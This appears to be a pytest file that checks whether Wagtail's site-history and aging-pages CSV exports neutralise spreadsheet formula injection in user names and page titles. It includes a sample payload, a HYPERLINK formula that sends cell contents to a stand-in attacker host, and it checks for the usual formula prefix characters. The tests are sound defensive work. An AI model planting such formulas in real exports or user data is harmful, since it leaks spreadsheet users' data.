"""Weakness 4: Wagtail's own exports (site history, aging pages) carry user
text; a name such as =HYPERLINK(...) must reach the spreadsheet inert."""

import csv
import io

import pytest
from django.utils import timezone
from wagtail.log_actions import log

from tests.factories import UserFactory

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def csv_cells(response):
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(body)) for cell in row]


@pytest.fixture
def evil_user(db):
    return UserFactory(first_name=EVIL, last_name="+Smith", setup__role=None)


def assert_inert(cells):
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells), cells
    assert "'" + EVIL in cells


def test_site_history_export_neutralises_user_text(client, home_page, evil_user):
    admin = UserFactory(is_superuser=True, setup__role=None)
    log(instance=home_page, action="wagtail.edit", user=evil_user, title=EVIL)
    client.force_login(admin)
    response = client.get("/admin/reports/site-history/?export=csv")
    assert response.status_code == 200
    cells = csv_cells(response)
    assert any(EVIL[1:] in cell for cell in cells)
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells), cells


def test_aging_pages_export_neutralises_user_text(client, home_page, evil_user):
    home_page.title_en = EVIL
    home_page.save_revision().publish()
    log(instance=home_page, action="wagtail.publish", user=evil_user)
    home_page.refresh_from_db()
    home_page.last_published_at = timezone.now() - timezone.timedelta(days=400)
    home_page.save(update_fields=["last_published_at"])
    client.force_login(UserFactory(is_superuser=True, setup__role=None))
    response = client.get("/admin/reports/aging-pages/?export=csv")
    assert response.status_code == 200
    assert_inert(csv_cells(response))
